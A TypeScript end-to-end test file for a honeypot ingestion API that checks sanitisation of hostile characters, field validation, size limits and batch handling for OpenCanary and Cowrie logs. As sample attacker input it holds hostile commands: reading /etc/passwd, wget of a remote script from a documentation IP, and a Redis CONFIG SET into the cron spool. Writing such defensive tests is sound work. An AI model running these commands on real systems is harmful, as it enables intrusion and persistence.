import { afterAll, beforeAll, describe, expect, test } from "bun:test"
import { type TestDatabase, testDatabase } from "../support/db.ts"
import { createSensor, createTenant, get } from "../support/fixtures.ts"
import { ingest, nativeEvent } from "../support/ingest.ts"
import { type RunningServer, shutdown, startServer } from "../support/server.ts"

/**
 * Hostile input on the honeypot routes (POST /ingest/v1/opencanary and /ingest/v1/cowrie), end to end over HTTP:
 * control, ANSI, zero-width, bidi, BOM and lone-surrogate characters in what the attacker typed are removed before
 * anything is stored or answered (D20), invalid fields are rejected with a reason naming the field (D22), sizes and
 * depths are bounded, one bad line never rejects its batch (D22), and nothing of it gives a 500.
 */

let server: RunningServer
let db: TestDatabase
let tenant: { orgId: string; key: string }
let sensor: { id: string; token: string }

beforeAll(async () => {
  server = await startServer()
  db = testDatabase(server.env)
  tenant = await createTenant(db, "Hostile honeypots")
  sensor = await createSensor(db, tenant.orgId, "hostile-01")
})

afterAll(() => shutdown(server, db))

// ---------------------------------------------------------------------------------------------------------------------
// The characters D20 removes, as an attacker would slip them into a value: bidi override and isolate, NUL, ANSI
// "clear screen", zero-width space, BOM, BEL, the C1 CSI and lone surrogates (high and low).

/** `s` with hostile characters in front, inside and behind it. */
const dirty = (s: string) =>
  `\udfff\u202e${s.slice(0, 2)}\u0000\u2066${s.slice(2)}\u001b[2J\u200b\ufeff\ud800\u0007\u009b\u2069`
/** What D20 leaves of dirty(s): only the printable rest of the ANSI sequence stays. */
const clean = (s: string) => `${s}[2J`

/** Code points that must never be in a stored or answered string (D20). */
const HOSTILE_CHARS = ["\u0000", "\u0007", "\u001b", "\u009b", "\u200b", "\u202e", "\u2066", "\u2069", "\ufeff"]
const hostileIn = (s: string): string | undefined => {
  for (const ch of HOSTILE_CHARS) {
    if (s.includes(ch)) return `U+${(ch.codePointAt(0) ?? 0).toString(16).padStart(4, "0")}`
  }
  // In a `u` regex a surrogate class matches only unpaired (lone) surrogates.
  if (/\p{Surrogate}/u.test(s)) return "a lone surrogate"
  if (/[\p{Cc}\p{Cf}]/u.test(s)) return "a control or format character"
  return undefined
}

/** Every string of a JSON value, keys included, with its path. */
const stringsOf = (value: unknown, path = "$"): Array<[string, string]> => {
  if (typeof value === "string") return [[path, value]]
  if (Array.isArray(value)) return value.flatMap((v, i) => stringsOf(v, `${path}[${i}]`))
  if (typeof value === "object" && value !== null) {
    return Object.entries(value).flatMap(([k, v]) => [
      [`${path} (key)`, k] as [string, string],
      ...stringsOf(v, `${path}.${k}`),
    ])
  }
  return []
}

const expectNoHostile = (label: string, value: unknown) => {
  const found = stringsOf(value)
    .map(([path, s]) => [path, hostileIn(s)] as const)
    .filter(([, what]) => what !== undefined)
  expect({ label, found }).toEqual({ label, found: [] })
}

type Outcome = { index: number; status: string; id?: string; incidentId?: string; reason?: string }

/** Posts a body; never a 5xx; returns the per-event outcomes of a 200. */
const post = async (route: "opencanary" | "cowrie" | "events", body: unknown, raw = false) => {
  const res = await ingest(server.ingestUrl, route, sensor.token, body, raw)
  const serverError = res.status >= 500 ? { status: res.status, body: res.body } : undefined
  expect({ route, serverError }).toEqual({ route, serverError: undefined })
  return res as { status: number; body: { accepted: number; rejected: number; results: Array<Outcome> } }
}

/** Reads an accepted event and its incident back through the API; both free of hostile characters. */
const readBack = async (label: string, outcome: Outcome | undefined) => {
  expect({ label, status: outcome?.status, reason: outcome?.reason }).toEqual({
    label,
    status: "accepted",
    reason: undefined,
  })
  const event = await get(server.url, `/v1/events/${outcome?.id}`, tenant.key)
  expect(event.status).toBe(200)
  expectNoHostile(`${label}: event`, event.body)
  const incident = await get(server.url, `/v1/incidents/${outcome?.incidentId}`, tenant.key)
  expect(incident.status).toBe(200)
  expectNoHostile(`${label}: incident`, incident.body)
  return { event: event.body, incident: incident.body }
}

const recent = (ms = 300_000) => new Date(Date.now() - ms)
const ocTime = (d: Date = recent()) => `${d.toISOString().slice(0, 19).replace("T", " ")}.053123`
const cowrieTime = (d: Date = recent()) => d.toISOString().replace(/Z$/, "123Z")

let ocPort = 41000
const ocLine = (logtype: number, logdata: Record<string, unknown>, extra: Record<string, unknown> = {}) => ({
  dst_host: "10.0.0.5",
  dst_port: 0,
  local_time: ocTime(),
  logdata,
  logtype,
  node_id: "opencanary-hostile",
  src_host: "203.0.113.150",
  src_port: ocPort++,
  utc_time: ocTime(),
  ...extra,
})

let cowriePort = 42000
const cowrieLine = (eventid: string, fields: Record<string, unknown> = {}) => ({
  eventid,
  message: "hostile",
  sensor: "cowrie-hostile",
  session: "h0st1le5e55",
  src_ip: "203.0.113.160",
  src_port: cowriePort++,
  dst_ip: "10.0.0.6",
  dst_port: 2222,
  timestamp: cowrieTime(),
  ...fields,
})

describe("hostile text on the OpenCanary route is stored cleaned", () => {
  test("usernames, passwords, paths, user agents, file names, Redis commands and log field names", async () => {
    const lines = [
      ocLine(4002, { USERNAME: dirty("root"), PASSWORD: dirty("hunter2-oc"), REMOTEVERSION: dirty("SSH-2.0-Go") }),
      ocLine(3000, {
        HOSTNAME: dirty("intranet.corp"),
        PATH: dirty("/admin/login.php?next=/"),
        SKIN: "nasLogin",
        USERAGENT: dirty("Mozilla/5.0"),
      }),
      ocLine(3001, { USERNAME: dirty("webadmin"), PASSWORD: dirty("form-pw-7"), PATH: "/index.html" }),
      ocLine(5000, { FILENAME: dirty("Finance/Q1 Budget.txt"), SHARENAME: dirty("Documents"), USER: dirty("jdoe") }),
      ocLine(17001, { CMD: dirty("CONFIG"), ARGS: dirty("SET dir /var/spool/cron") }),
      ocLine(17001, { CMD: "AUTH", ARGS: dirty("redis-pw-9") }),
      ocLine(14001, { "USER\u0000NAME\u202e": "ignored-key-form", USERNAME: dirty("administrator") }),
    ]
    const res = await post("opencanary", lines)
    expect(res.body).toMatchObject({ accepted: lines.length, rejected: 0 })
    const [ssh, http, httpLogin, smb, redis, redisAuth, rdp] = await Promise.all(
      res.body.results.map((r, i) => readBack(`opencanary line ${i}`, r)),
    )
    expect(ssh?.event.attackerInput).toMatchObject({
      username: clean("root"),
      remoteVersion: clean("SSH-2.0-Go"),
      password: { masked: expect.stringMatching(/^\*+$/), fingerprint: expect.stringMatching(/^[0-9a-f]{32}$/) },
    })
    expect(ssh?.event.summary).toContain(JSON.stringify(clean("root")))
    expect(ssh?.incident.narrative).toContain(clean("root"))
    expect(http?.event.attackerInput).toMatchObject({
      hostname: clean("intranet.corp"),
      path: clean("/admin/login.php?next=/"),
      userAgent: clean("Mozilla/5.0"),
    })
    expect(httpLogin?.event.attackerInput).toMatchObject({ username: clean("webadmin") })
    expect(smb?.event.attackerInput).toMatchObject({
      fileName: clean("Finance/Q1 Budget.txt"),
      shareName: clean("Documents"),
      username: clean("jdoe"),
    })
    expect(redis?.event.attackerInput).toMatchObject({
      command: clean("CONFIG"),
      args: clean("SET dir /var/spool/cron"),
    })
    expect(redisAuth?.event.attackerInput.password).toMatchObject({ masked: expect.stringMatching(/^\*+$/) })
    expect(rdp?.event.attackerInput.username).toBe(clean("administrator"))
    // D19: the passwords themselves (their printable parts) are nowhere in what the API answers.
    const everything = JSON.stringify([ssh, http, httpLogin, smb, redis, redisAuth, rdp])
    for (const tail of ["nter2-oc", "rm-pw-7", "dis-pw-9"]) expect(everything).not.toContain(tail)
  })
})

describe("hostile text on the Cowrie route is stored cleaned", () => {
  test("usernames, passwords, commands, URLs and hashes", async () => {
    const lines = [
      cowrieLine("cowrie.session.connect", { protocol: "ssh" }),
      cowrieLine("cowrie.login.failed", { username: dirty("admin"), password: dirty("cowrie-pw-1") }),
      cowrieLine("cowrie.login.success", { username: dirty("root"), password: dirty("cowrie-pw-2") }),
      cowrieLine("cowrie.command.input", { input: dirty("cat /etc/passwd; uname -a") }),
      cowrieLine("cowrie.command.input", { input: dirty("wget http://198.51.100.9/x.sh") }),
      cowrieLine("cowrie.session.file_download", {
        url: dirty("http://198.51.100.9/x.sh"),
        shasum: dirty("e3b0c44298fc1c149afbf4c8996fb924"),
        outfile: "var/lib/cowrie/downloads/e3b0",
      }),
    ]
    const res = await post("cowrie", lines)
    expect(res.body).toMatchObject({ accepted: lines.length, rejected: 0 })
    const read = await Promise.all(res.body.results.map((r, i) => readBack(`cowrie line ${i}`, r)))
    const [, failed, success, command, commandSuccess, download] = read
    expect(failed?.event.attackerInput.username).toBe(clean("admin"))
    expect(failed?.event.attackerInput.password).toMatchObject({ masked: expect.stringMatching(/^\*+$/) })
    expect(success?.event.attackerInput.username).toBe(clean("root"))
    expect(command?.event.attackerInput.command).toBe(clean("cat /etc/passwd; uname -a"))
    expect(command?.event.tags).toContain("system-discovery")
    expect(commandSuccess?.event.attackerInput.command).toBe(clean("wget http://198.51.100.9/x.sh"))
    expect(download?.event.attackerInput).toMatchObject({
      url: clean("http://198.51.100.9/x.sh"),
      shasum: clean("e3b0c44298fc1c149afbf4c8996fb924"),
    })
    expect(download?.event.summary).toContain(JSON.stringify(clean("http://198.51.100.9/x.sh")))
    const everything = JSON.stringify(read)
    for (const tail of ["wrie-pw-1", "wrie-pw-2"]) expect(everything).not.toContain(tail)
  })

  test("bytes that are not UTF-8 (an overlong '/', a CESU-8 surrogate) refuse the whole body with 400, never a 500", async () => {
    const line = JSON.stringify(cowrieLine("cowrie.login.failed", { username: "ro@@ot", password: "bytes-pw" }))
    const [before, after] = line.split("@@") as [string, string]
    const body = new Uint8Array([
      ...new TextEncoder().encode(before),
      0xc0,
      0xaf,
      0xed,
      0xa0,
      0x80,
      0xff,
      ...new TextEncoder().encode(after),
    ])
    const response = await fetch(`${server.ingestUrl}/ingest/v1/cowrie`, {
      method: "POST",
      headers: { "content-type": "application/json", authorization: `Bearer ${sensor.token}` },
      body,
    })
    expect(response.status).toBe(400)
    const problem = (await response.json()) as { code: string; detail: string }
    expect(problem.code).toBe("invalid_request")
    expect(problem.detail).toContain(`byte ${new TextEncoder().encode(before).length}`)
  })
})

describe("invalid honeypot fields are rejected with a reason naming the field, never a 500", () => {
  test("OpenCanary: bad src_host, ports and utc_time; each reason names its field", async () => {
    const cases: Array<[Record<string, unknown>, RegExp]> = [
      [{ src_host: "999.1.1.1" }, /^missing or invalid src_host/],
      [{ src_host: "203.0.113.7\u0000" }, /^missing or invalid src_host/],
      [{ src_host: "\u202e203.0.113.7" }, /^missing or invalid src_host/],
      [{ src_host: "203.0.113.7\u200b" }, /^missing or invalid src_host/],
      [{ src_host: "attacker.example.com" }, /^missing or invalid src_host/],
      [{ src_host: "fe80::1%eth0" }, /^missing or invalid src_host/],
      [{ src_host: "" }, /^missing or invalid src_host/],
      [{ src_host: 3405803783 }, /^missing or invalid src_host/],
      [{ src_host: null }, /^missing or invalid src_host/],
      [{ src_port: 70000 }, /^invalid src_port/],
      [{ src_port: -5 }, /^invalid src_port/],
      [{ src_port: 22.5 }, /^invalid src_port/],
      [{ src_port: "ssh" }, /^invalid src_port/],
      [{ src_port: "22\u0000" }, /^invalid src_port/],
      [{ src_port: "99999" }, /^invalid src_port/],
      [{ src_port: true }, /^invalid src_port/],
      [{ dst_port: 65536 }, /^invalid dst_port/],
      [{ dst_port: "http" }, /^invalid dst_port/],
      [{ utc_time: "yesterday" }, /^missing or invalid utc_time/],
      [{ utc_time: "2026-13-01 00:00:00.000000" }, /^missing or invalid utc_time/],
      [{ utc_time: "2026-02-30 10:00:00" }, /^missing or invalid utc_time/],
      [{ utc_time: "2026-11-21 24:00:00" }, /^missing or invalid utc_time/],
      [{ utc_time: `${ocTime()}\u0000` }, /^missing or invalid utc_time/],
      [{ utc_time: `\u200b${ocTime()}` }, /^missing or invalid utc_time/],
      [{ utc_time: "" }, /^missing or invalid utc_time/],
      [{ utc_time: 1732204662 }, /^missing or invalid utc_time/],
      [{ utc_time: "1969-12-31 23:59:59" }, /^missing or invalid utc_time/],
      [{ utc_time: "2999-01-01 00:00:00" }, /^time is \d+ seconds ahead of the server clock \(at most 300 allowed\)/],
      [{ logdata: "USERNAME=root" }, /^logdata must be a JSON object/],
      [{ logdata: [1, 2] }, /^logdata must be a JSON object/],
    ]
    // Raw NDJSON, so that numbers JSON.stringify cannot write (1e400) go over the wire too.
    const body = [
      ...cases.map(([fields]) => JSON.stringify(ocLine(4002, { USERNAME: "root", PASSWORD: "x" }, fields))),
      JSON.stringify(ocLine(4002, { USERNAME: "root" })).replace(/"src_port":\d+/, '"src_port":1e400'),
    ].join("\n")
    const res = await post("opencanary", body, true)
    expect(res.status).toBe(200)
    expect(res.body.rejected).toBe(cases.length + 1)
    for (const [i, [fields, reason]] of cases.entries()) {
      expect({ fields, reason: res.body.results[i]?.reason }).toEqual({ fields, reason: expect.stringMatching(reason) })
    }
    expect(res.body.results[cases.length]?.reason).toMatch(/^invalid src_port/)
  })

  test("Cowrie: bad src_ip, ports, timestamp and session; each reason names its field", async () => {
    const cases: Array<[Record<string, unknown>, RegExp]> = [
      [{ src_ip: "999.1.1.1" }, /^missing or invalid src_ip/],
      [{ src_ip: "203.0.113.7\u0000" }, /^missing or invalid src_ip/],
      [{ src_ip: "\u2066203.0.113.7" }, /^missing or invalid src_ip/],
      [{ src_ip: "localhost" }, /^missing or invalid src_ip/],
      [{ src_ip: 12 }, /^missing or invalid src_ip/],
      [{ src_port: 65536 }, /^invalid src_port/],
      [{ src_port: "abc" }, /^invalid src_port/],
      [{ src_port: -2 }, /^invalid src_port/],
      [{ dst_port: 1e6 }, /^invalid dst_port/],
      [{ timestamp: "not a time" }, /^missing or invalid timestamp/],
      [{ timestamp: "2026-11-21T25:00:00Z" }, /^missing or invalid timestamp/],
      [{ timestamp: "2026-11-21T10:00:00+25:00" }, /^missing or invalid timestamp/],
      [{ timestamp: `${cowrieTime()}\u0000` }, /^missing or invalid timestamp/],
      [{ timestamp: "" }, /^missing or invalid timestamp/],
      [{ timestamp: null }, /^missing or invalid timestamp/],
      [{ timestamp: "2999-01-01T00:00:00Z" }, /^time is \d+ seconds ahead of the server clock \(at most 300 allowed\)/],
      [{ session: "abc\u0000def" }, /^missing or invalid session/],
      [{ session: "a\u202eb" }, /^missing or invalid session/],
      [{ session: "s".repeat(65) }, /^missing or invalid session/],
      [{ session: "" }, /^missing or invalid session/],
      // D42: an unknown eventid is kept as a generic event, but one with a control character is malformed.
      [{ eventid: "cowrie.login.failed\u0000" }, /^missing or invalid eventid/],
      [{ eventid: 42 }, /^missing or invalid eventid/],
    ]
    const res = await post(
      "cowrie",
      cases.map(([fields]) => cowrieLine("cowrie.login.failed", { username: "root", password: "x", ...fields })),
    )
    expect(res.status).toBe(200)
    expect(res.body.rejected).toBe(cases.length)
    for (const [i, [fields, reason]] of cases.entries()) {
      expect({ fields, reason: res.body.results[i]?.reason }).toEqual({ fields, reason: expect.stringMatching(reason) })
    }
  })

  test("a rejection reason quotes the bad value without its control, invisible or bidi characters", async () => {
    // The reason is answered to the sensor (and may end up in its logs or a terminal): D20 applies to it as well.
    const oc = await post("opencanary", [
      ocLine(4002, {}, { src_host: "\u202e203.0.113.7\u0000\u001b[2J" }),
      ocLine(4002, {}, { utc_time: "\u200b\u2066yesterday\ufeff" }),
      ocLine(4002, {}, { src_port: "\u009b22" }),
      ocLine(4002, {}, { logtype: "\u202e4002" }),
    ])
    const cowrie = await post("cowrie", [
      cowrieLine("cowrie.login.failed\u202e\u200b"),
      cowrieLine("cowrie.login.failed", { session: "\u2066abc\u0000\u001b[2J" }),
      cowrieLine("cowrie.login.failed", { src_ip: "\ufeff203.0.113.9\ud800" }),
    ])
    const reasons = [...oc.body.results, ...cowrie.body.results].map((r) => r.reason)
    expect(reasons.every((r) => typeof r === "string" && r.length > 0)).toBe(true)
    expectNoHostile("rejection reasons", reasons)
  })
})

describe("bounds: a 1 MiB string and deep nesting", () => {
  test("a body over 1 MiB because of one string is refused with 413 on both routes", async () => {
    const mib = "A".repeat(1024 * 1024)
    const oc = await post("opencanary", ocLine(3000, { PATH: `/${mib}` }))
    expect(oc.status).toBe(413)
    expect((oc.body as unknown as { code: string }).code).toBe("payload_too_large")
    const cowrie = await post("cowrie", cowrieLine("cowrie.command.input", { input: mib }))
    expect(cowrie.status).toBe(413)
    expect((cowrie.body as unknown as { code: string }).code).toBe("payload_too_large")
  })

  test("a string just under the body limit is stored cut to 4096 code points, cleaned, and quoted cut in the summary", async () => {
    const long = `${dirty("x")}${"\u200b/a".repeat(200_000)}`
    const oc = await post("opencanary", ocLine(3000, { PATH: long, USERAGENT: "curl/8.5.0" }))
    expect(oc.status).toBe(200)
    const { event } = await readBack("long PATH", oc.body.results[0])
    const path = event.attackerInput.path as string
    expect([...path].length).toBeLessThanOrEqual(4096)
    expect(path.startsWith(`${clean("x")}/a/a`)).toBe(true)
    expect([...(event.summary as string)].length).toBeLessThan(300)
    const cowrie = await post(
      "cowrie",
      cowrieLine("cowrie.command.input", { input: `echo ${"\u0000B".repeat(140_000)}` }),
    )
    expect(cowrie.status).toBe(200)
    const read = await readBack("long command", cowrie.body.results[0])
    const command = read.event.attackerInput.command as string
    expect([...command].length).toBeLessThanOrEqual(4096)
    expect(command.startsWith("echo BBBB")).toBe(true)
  })

  test("deeply nested logdata is rejected with a reason; shallow nesting keeps only the scalars", async () => {
    const nest = (depth: number): Record<string, unknown> => {
      let inner: Record<string, unknown> = { leaf: "bottom" }
      for (let i = 0; i < depth; i++) inner = { next: inner }
      return inner
    }
    const res = await post("opencanary", [
      ocLine(4002, { USERNAME: "deep", EXTRA: nest(40) }),
      ocLine(4002, { USERNAME: "shallow", EXTRA: nest(3), LIST: ["a", "b"], PASSWORD: "nest-pw" }),
    ])
    expect(res.status).toBe(200)
    expect(res.body.results[0]).toMatchObject({
      status: "rejected",
      reason: expect.stringContaining("nested too deeply"),
    })
    const { event } = await readBack("shallow nesting", res.body.results[1])
    expect(Object.keys(event.attackerInput).sort()).toEqual(["password", "username"])
    expect(event.attackerInput.username).toBe("shallow")
    // Cowrie: extra nested members are not attacker input it reads; deep nesting is refused or ignored, never a 500.
    const cowrie = await post("cowrie", [
      cowrieLine("cowrie.login.failed", { username: "deep", password: "p", extra: nest(40) }),
      cowrieLine("cowrie.login.failed", { username: { nested: nest(5) }, password: ["x"] }),
    ])
    expect(cowrie.status).toBe(200)
    expect(cowrie.body.results[0]).toMatchObject({
      status: "rejected",
      reason: expect.stringContaining("nested too deeply"),
    })
    // D20: a non-string username or password is kept as its JSON text (the password masked).
    const nested = await readBack("cowrie non-string username", cowrie.body.results[1])
    expect(nested.event.attackerInput).toEqual({
      username: JSON.stringify({ nested: nest(5) }),
      password: { masked: "*****", length: 5, fingerprint: expect.stringMatching(/^[0-9a-f]{32}$/) },
    })
    // JSON nested beyond what the parser takes: an answer, never a 500.
    const absurd = await post(
      "opencanary",
      `{"logtype":4002,"logdata":${"[".repeat(100_000)}${"]".repeat(100_000)}}`,
      true,
    )
    expect(absurd.status).toBeLessThan(500)
  })
})

describe("one bad line in a batch does not reject the good ones", () => {
  test("OpenCanary NDJSON: good lines accepted, each bad one rejected with its reason, in input order", async () => {
    const good1 = ocLine(4002, { USERNAME: "batch-a", PASSWORD: "pw-a" }, { src_host: "203.0.113.170" })
    const good2 = ocLine(2000, { USERNAME: dirty("batch-b"), PASSWORD: "pw-b" }, { src_host: "203.0.113.170" })
    const body = [
      JSON.stringify(good1),
      '{"logtype": 4002, "src_host": ',
      JSON.stringify(ocLine(4002, {}, { src_host: "300.1.1.1" })),
      JSON.stringify(ocLine(1001, { msg: "boot" })),
      JSON.stringify(good2),
      JSON.stringify(ocLine(4002, { EXTRA: { a: { b: { c: { d: { e: {} } } } } } }, { src_port: "x" })),
      "null",
    ].join("\n")
    const res = await post("opencanary", body, true)
    expect(res.status).toBe(200)
    expect(res.body).toMatchObject({ accepted: 2, rejected: 4 })
    expect(res.body.results.map((r) => [r.index, r.status])).toEqual([
      [0, "accepted"],
      [1, "rejected"],
      [2, "rejected"],
      [3, "ignored"], // D42: a daemon message records no attacker action
      [4, "accepted"],
      [5, "rejected"],
      [6, "rejected"],
    ])
    expect(res.body.results[1]?.reason).toBe("line 2 is not valid JSON")
    expect(res.body.results[2]?.reason).toMatch(/src_host/)
    expect(res.body.results[3]?.reason).toMatch(/1001/)
    expect(res.body.results[5]?.reason).toMatch(/src_port/)
    expect(res.body.results[6]?.reason).toMatch(/JSON object/)
    const { incident } = await readBack("batch good line", res.body.results[4])
    expect(incident.eventCount).toBe(2)
    expect(incident.eventTypes).toEqual(["ftp.login_attempt", "ssh.login_attempt"])
  })

  test("Cowrie array: good lines accepted, the bad one rejected", async () => {
    const res = await post("cowrie", [
      cowrieLine("cowrie.login.failed", { username: "c-a", password: "c-pw", src_ip: "203.0.113.171" }),
      cowrieLine("cowrie.login.failed", { src_ip: "203.0.113.171", timestamp: "2026-02-30T00:00:00Z" }),
      cowrieLine("cowrie.client.version", { src_ip: "203.0.113.171", version: dirty("SSH-2.0-Go") }),
      "just a string",
      cowrieLine("cowrie.command.input", { src_ip: "203.0.113.171", input: dirty("id") }),
    ])
    expect(res.status).toBe(200)
    // D42: the client version is merged into the session's events.
    expect(res.body.results.map((r) => r.status)).toEqual(["accepted", "rejected", "merged", "rejected", "accepted"])
    expect(res.body.results[1]?.reason).toMatch(/timestamp/)
    expect(res.body.results[2]?.reason).toMatch(/cowrie\.client\.version/)
    expect(res.body.results[3]?.reason).toMatch(/JSON object/)
    const { event, incident } = await readBack("cowrie batch command", res.body.results[4])
    expect(event.attackerInput.command).toBe(clean("id"))
    expect(incident.eventCount).toBe(2)
  })
})

describe("the native route with a NUL in sensorEventId", () => {
  test("rejected with a reason or accepted, never a 500; the good event of the batch is accepted", async () => {
    const good = nativeEvent({ sourceIp: "203.0.113.180" })
    const bad = nativeEvent({ sourceIp: "203.0.113.180", sensorEventId: `nul-\u0000-${crypto.randomUUID()}` })
    const res = await ingest(server.ingestUrl, "events", sensor.token, [good, bad])
    expect({ status: res.status, body: res.status === 200 ? "ok" : res.body }).toEqual({ status: 200, body: "ok" })
    expect(res.body.results[0]).toMatchObject({ index: 0, status: "accepted" })
    const outcome = res.body.results[1] as Outcome
    if (outcome.status === "rejected") {
      expect(outcome.reason).toMatch(/sensorEventId/)
      expectNoHostile("reason", outcome.reason)
    } else {
      expect(outcome.status).toBe("accepted")
      // Sent again: the same event, so a duplicate (D22), still never a 500.
      const again = await ingest(server.ingestUrl, "events", sensor.token, bad)
      expect(again.status).toBe(200)
      expect(again.body.results[0]).toMatchObject({ status: "duplicate", id: outcome.id })
    }
  })

  test("other hostile sensorEventIds (ANSI, bidi, zero-width, lone surrogate) never give a 500", async () => {
    const ids = ["\u001b[2J-esc", "\u202ebidi", "zw\u200bsp", "lone-\ud800", "\ufeffbom"].map(
      (s) => `${s}-${crypto.randomUUID()}`,
    )
    const res = await ingest(
      server.ingestUrl,
      "events",
      sensor.token,
      ids.map((sensorEventId) => nativeEvent({ sourceIp: "203.0.113.181", sensorEventId })),
    )
    expect(res.status).toBe(200)
    for (const r of res.body.results as Array<Outcome>) {
      expect(["accepted", "rejected"]).toContain(r.status)
      if (r.status === "rejected") expect(r.reason).toMatch(/sensorEventId/)
    }
  })
})
